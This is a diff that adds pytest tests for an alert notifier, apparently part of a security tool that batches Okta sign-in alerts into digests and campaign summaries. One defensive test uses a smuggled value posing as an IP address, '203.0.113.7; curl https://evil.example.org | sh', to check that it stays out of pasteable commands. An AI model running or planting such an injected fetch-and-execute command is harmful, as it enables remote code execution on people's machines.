@@ -1,0 +1,248 @@
+"""A flood of alerts is no flood of messages."""
+
+from collections.abc import Iterator
+from datetime import timedelta
+from typing import Any
+
+import pytest
+
+from oktawatch.engine.database import DatabaseExecutor
+from oktawatch.engine.deliver import Notifier
+from oktawatch.notify.channel import DeliveryError
+from tests.support.databases import NOW, open_database, rows
+from tests.support.outbox import COMPOSER, Clock, Receiver, put, sign_in
+from tests.support.places import Place
+
+
+@pytest.fixture
+def database(place: Place) -> Iterator[DatabaseExecutor]:
+    """Give a database with its threads."""
+    with open_database(place):
+        made = DatabaseExecutor(place.url)
+        yield made
+        made.close()
+
+
+@pytest.fixture
+def clock() -> Clock:
+    """Give a clock."""
+    return Clock()
+
+
+def notifier(receiver: Receiver, database: DatabaseExecutor, clock: Clock, per_minute: int = 10) -> Notifier:
+    """Make a notifier that takes so many messages a minute."""
+    return Notifier(
+        "soc", receiver, COMPOSER, database,
+        max_age=timedelta(days=1), per_minute=per_minute, now=clock, jitter=lambda: 0.5,
+    )  # fmt: skip
+
+
+def digests(receiver: Receiver) -> list[dict[str, Any]]:
+    """Give what the digests said that arrived."""
+    return [one.body["digest"] for one in receiver.taken if one.type == "digest"]
+
+
+def states(database: DatabaseExecutor) -> dict[str, int]:
+    """Count the notifications by their state."""
+    counts: dict[str, int] = {}
+    for row in rows(database.database, "notifications"):
+        counts[row["state"]] = counts.get(row["state"], 0) + 1
+    return counts
+
+
+def apart(count: int, first: int = 0) -> list[Any]:
+    """Give sign-ins of different people from different addresses and networks."""
+    return [sign_in(first + n, ip=f"198.51.100.{n % 250}") for n in range(count)]
+
+
+async def test_what_is_above_comes_together(database: DatabaseExecutor, clock: Clock) -> None:
+    """The oldest come by themselves, the rest in one digest, and no more than max_per_minute in all."""
+    put(database.database, *apart(50))
+    clock.advance(seconds=1)
+    receiver = Receiver()
+
+    assert await notifier(receiver, database, clock).round() == 10
+
+    assert [one.type for one in receiver.taken] == ["alert.opened"] * 9 + ["digest"]
+    (digest,) = digests(receiver)
+    assert (digest["reason"], digest["alerts"], digest["people"]) == ("above", 41, 41)
+    assert digest["severities"] == {"MEDIUM": 41}
+    assert digest["rules"] == {"Okta.Anonymizing.VPN.Login": 41}
+    assert len(digest["who"]) == len(digest["addresses"]) == 5
+    assert states(database) == {"sent": 10, "digested": 41}
+    assert receiver.taken[-1].heading == "[MEDIUM] 41 alerts more"
+    assert "oktawatch alerts list --since 2026-11-02T12:00:00Z" in receiver.taken[-1].plain()
+
+
+async def test_no_more_within_the_minute(database: DatabaseExecutor, clock: Clock) -> None:
+    """What comes later waits for the next minute, and is folded again if it is too much."""
+    soc = notifier(receiver := Receiver(), database, clock)
+    put(database.database, *apart(50))
+    await soc.round()
+    put(database.database, *apart(30, first=100), now=clock())
+    clock.advance(seconds=30)
+    assert await soc.round() == 0
+    clock.advance(seconds=31)
+
+    assert await soc.round() == 10
+
+    assert [digest["alerts"] for digest in digests(receiver)] == [41, 21]
+    assert states(database) == {"sent": 20, "digested": 62}
+
+
+async def test_as_many_as_it_takes_come_by_themselves(database: DatabaseExecutor, clock: Clock) -> None:
+    """A digest is made of what is too much, not of what just fits."""
+    put(database.database, *apart(10))
+    receiver = Receiver()
+
+    assert await notifier(receiver, database, clock).round() == 10
+
+    assert digests(receiver) == []
+
+
+async def test_the_past_comes_together(database: DatabaseExecutor, clock: Clock) -> None:
+    """A first run tells what happened before in one message, and what happens now as ever."""
+    past = [sign_in(n, at=NOW - timedelta(hours=2 + n)) for n in range(30)]
+    put(database.database, *past, sign_in(50))
+    receiver = Receiver()
+
+    await notifier(receiver, database, clock).round()
+
+    (digest,) = digests(receiver)
+    assert (digest["reason"], digest["alerts"]) == ("late", 30)
+    assert {one.type for one in receiver.taken} == {"alert.opened", "digest"}
+    assert len(receiver.taken) == 2
+    (heading,) = [one.heading for one in receiver.taken if one.type == "digest"]
+    assert heading == "[MEDIUM] 30 alerts about the past"
+
+
+async def test_a_single_one_of_the_past(database: DatabaseExecutor, clock: Clock) -> None:
+    """It is told as itself: there is nothing to sum up."""
+    put(database.database, sign_in(1, at=NOW - timedelta(hours=5)))
+    receiver = Receiver()
+
+    await notifier(receiver, database, clock).round()
+
+    assert [one.type for one in receiver.taken] == ["alert.opened"]
+
+
+async def test_a_long_past_is_one_digest_a_minute(database: DatabaseExecutor, clock: Clock) -> None:
+    """While pages of the past are read, what they tell is collected."""
+    soc = notifier(receiver := Receiver(), database, clock)
+    for page in range(12):
+        past = [sign_in(10 * page + n, at=NOW - timedelta(hours=2)) for n in range(10)]
+        put(database.database, *past, now=clock())
+        await soc.round()
+        clock.advance(seconds=5)
+    clock.advance(seconds=60)
+    await soc.round()
+
+    assert [digest["alerts"] for digest in digests(receiver)] == [10, 110]
+
+
+async def test_a_campaign(database: DatabaseExecutor, clock: Clock) -> None:
+    """One address that troubles many people is one message with the list; the others' alerts are their own."""
+    put(database.database, *(sign_in(n) for n in range(8)), sign_in(20, ip="198.51.100.9"))
+    receiver = Receiver()
+
+    await notifier(receiver, database, clock, per_minute=30).round()
+
+    (digest,) = digests(receiver)
+    assert (digest["reason"], digest["source"], digest["alerts"], digest["people"]) == (
+        "campaign", "203.0.113.7", 8, 8,
+    )  # fmt: skip
+    assert len(receiver.taken) == 2
+    (message,) = [one for one in receiver.taken if one.type == "digest"]
+    assert message.heading == "[MEDIUM] Campaign: 8 people troubled from 203.0.113.7"
+    assert "user0@example.com (1)" in message.plain()
+    assert "--ip 203.0.113.7" in message.plain()
+
+
+async def test_a_slow_campaign(database: DatabaseExecutor, clock: Clock) -> None:
+    """It counts who was told of by themselves before, and what goes on of it is collected."""
+    soc = notifier(receiver := Receiver(), database, clock, per_minute=30)
+    for n in range(12):
+        put(database.database, sign_in(n, at=clock()), now=clock())
+        await soc.round()
+        clock.advance(seconds=30)
+    told = [one.type for one in receiver.taken]
+    assert told == ["alert.opened"] * 4 + ["digest"]
+    assert (digests(receiver)[0]["alerts"], digests(receiver)[0]["people"]) == (1, 5)
+    clock.advance(minutes=8)
+
+    await soc.round()
+
+    (again,) = digests(receiver)[1:]
+    assert (again["reason"], again["alerts"]) == ("campaign", 7)
+
+
+async def test_a_network(database: DatabaseExecutor, clock: Clock) -> None:
+    """Many addresses of one network are a campaign, too."""
+    events = [sign_in(n, ip=f"198.51.100.{n}", network=64500) for n in range(6)]
+    put(database.database, *events)
+    receiver = Receiver()
+
+    await notifier(receiver, database, clock, per_minute=30).round()
+
+    (digest,) = digests(receiver)
+    assert (digest["reason"], digest["source"]) == ("campaign", "64500")
+    assert receiver.taken[0].heading == "[MEDIUM] Campaign: 6 people troubled from AS64500"
+
+
+async def test_one_person_is_no_campaign(database: DatabaseExecutor, clock: Clock) -> None:
+    """Many alerts about one person are many alerts."""
+    events = [sign_in(n, who=1, at=NOW - timedelta(minutes=1), ip="203.0.113.7") for n in range(3)]
+    put(database.database, *events)
+    receiver = Receiver()
+
+    await notifier(receiver, database, clock, per_minute=30).round()
+
+    assert digests(receiver) == []
+
+
+async def test_a_digest_is_retried_as_it_was(database: DatabaseExecutor, clock: Clock) -> None:
+    """Its receiver may have it already, so it takes in nothing more; what came meanwhile has its own."""
+    receiver = Receiver(*[None] * 9, DeliveryError("status 500"))
+    soc = notifier(receiver, database, clock)
+    put(database.database, *apart(50))
+    clock.advance(seconds=1)
+    await soc.round()
+    put(database.database, *apart(50, first=100), now=clock())
+    clock.advance(minutes=2)
+
+    await soc.round()
+
+    said = [(one.id, one.body["digest"]["alerts"]) for one in receiver.asked if one.type == "digest"]
+    assert said[0] == said[1]
+    assert [alerts for _, alerts in said] == [41, 41, 42]
+
+
+async def test_a_receiver_that_is_down_for_long(database: DatabaseExecutor, clock: Clock) -> None:
+    """No digest is made for each try: what waits is folded when the receiver is back."""
+    receiver = Receiver(*[DeliveryError("status 503")] * 30)
+    soc = notifier(receiver, database, clock)
+    put(database.database, *apart(200))
+    while receiver.script:
+        await soc.round()
+        clock.advance(minutes=1)
+    before = len(rows(database.database, "notifications"))
+    for _ in range(120):
+        clock.advance(minutes=1)
+        await soc.round()
+
+    assert len(rows(database.database, "notifications")) - before <= 2
+    assert set(states(database)) == {"sent", "digested"}
+
+
+async def test_a_hostile_campaign(database: DatabaseExecutor, clock: Clock) -> None:
+    """What calls itself an address does not get into a command that somebody will paste."""
+    hostile = "203.0.113.7; curl https://evil.example.org | sh"
+    put(database.database, *(sign_in(n, ip=hostile) for n in range(6)))
+    receiver = Receiver()
+
+    await notifier(receiver, database, clock).round()
+
+    (message,) = receiver.taken
+    assert message.plain().splitlines()[-1] == "Look: oktawatch alerts list --since 2026-11-02T12:00:00Z"
+    for form in (message.plain(), message.markdown(), message.html(), message.heading):
+        assert "://" not in form
